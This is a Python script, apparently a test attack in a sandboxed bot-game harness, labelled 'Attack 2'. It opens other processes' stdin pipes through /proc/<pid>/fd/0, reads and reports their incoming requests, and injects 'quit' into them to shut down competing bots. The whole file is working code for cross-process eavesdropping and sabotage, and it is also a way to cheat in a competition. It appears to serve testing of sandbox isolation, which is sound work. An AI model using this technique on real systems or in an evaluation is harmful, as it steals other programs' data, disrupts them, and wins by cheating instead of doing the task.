#!/usr/bin/env python3
"""Attack 2: read the other bots' requests from their stdin pipes through /proc/<pid>/fd/0,
and write ``quit`` into them.

Opening /proc/<pid>/fd/0 of a process one may trace opens the pipe itself, from either end.
Targets: ``--only WORD`` (processes whose command line holds WORD), else every process it can
see -- inside a sandbox only (cheatlib.targets).  A reader thread steals for ``--steal S``
seconds (default 2); what it got so far is reported at each later request."""

import os
import select
import threading
import time

from cheatlib import flag, play, report, targets, why

stolen: dict[int, int] = {}
sample = bytearray()
reported = [0]


def steal(fds: dict[int, int], seconds: float) -> None:
    end = time.monotonic() + seconds
    poller = select.poll()
    by_fd = {fd: pid for pid, fd in fds.items()}
    for fd in by_fd:
        poller.register(fd, select.POLLIN)
    while by_fd and time.monotonic() < end:
        for fd, _ in poller.poll(50):
            try:
                data = os.read(fd, 65536)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b""
            if not data:
                poller.unregister(fd)
                by_fd.pop(fd, None)
                continue
            stolen[by_fd[fd]] = stolen.get(by_fd[fd], 0) + len(data)
            sample[:] = (bytes(sample) + data)[-300:]


def attack(n: int) -> None:
    total = sum(stolen.values())
    if total != reported[0]:  # what the reader thread got so far, said while the game goes on
        reported[0] = total
        report("stdin_read", stolen_bytes=total, per_pid=dict(stolen), sample=sample.decode("utf-8", "replace"))
    if n != 1:
        return
    victims = targets(flag("only"))
    readers, written, errors = {}, [], {}
    for pid in victims:
        path = f"/proc/{pid}/fd/0"
        try:
            readers[pid] = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        except OSError as exc:
            errors[f"read {pid}"] = why(exc)
        try:
            fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, b"quit\n")
            os.close(fd)
            written.append(pid)
        except OSError as exc:
            errors[f"write {pid}"] = why(exc)
    report("stdin_quit", targets=victims, opened_for_reading=sorted(readers), quit_written=written, errors=errors)
    threading.Thread(target=steal, args=(readers, float(flag("steal", "2"))), daemon=True).start()


play("stdin-thief", on_request=attack)
